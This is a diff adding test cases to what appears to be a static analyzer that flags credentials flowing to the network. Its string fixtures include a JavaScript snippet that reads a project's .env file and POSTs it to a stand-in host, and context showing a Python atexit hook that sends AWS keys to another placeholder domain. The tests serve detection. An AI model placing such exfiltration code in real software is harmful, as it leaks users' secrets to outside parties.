@@ -116,9 +116,21 @@ TEST_CASE("a credential file read in pieces is followed through helpers, dispatc
              "    body = json.dumps({'who': creds.access_key, 'sig': creds.secret_key}).encode()\n"
              "    urllib.request.urlopen('https://export-stats.x.example.io/done', data=body)\n\natexit.register(_summary)\n",
              "credentials_to_network", true);
+  // A project's .env file, read and handed to a function that posts it (as the shell reads `curl -d @.env`).
+  check_flow(Language::javascript,
+             "const fs = require('fs');\nconst https = require('https');\nconst path = require('path');\n"
+             "function readDotenv(dir) { return fs.readFileSync(path.join(dir, '.env'), 'utf8'); }\n"
+             "function push(contents) {\n  const req = https.request({ host: 'api.envsync.x.example.dev', method: 'POST' });\n"
+             "  req.end(JSON.stringify({ contents }));\n}\npush(readDotenv(process.cwd()));\n",
+             "credentials_to_network", true);
 }
 
 TEST_CASE("credentials handed to their own vendor, and public keys, are not followed as leaving") {
+  // A dotenv template holds no secret.
+  check_flow(Language::python,
+             "import requests\n\ndef push(data):\n    requests.post('https://x.example.dev/push', data=data)\n\n"
+             "push(open('.env.example').read())\n",
+             "credentials_to_network", false);
   check_flow(Language::python,
              "import requests\nimport boto3\n\ndef sign():\n    creds = boto3.Session().get_credentials()\n"
              "    return requests.post('https://sts.amazonaws.com/', data={'key': creds.access_key})\n",
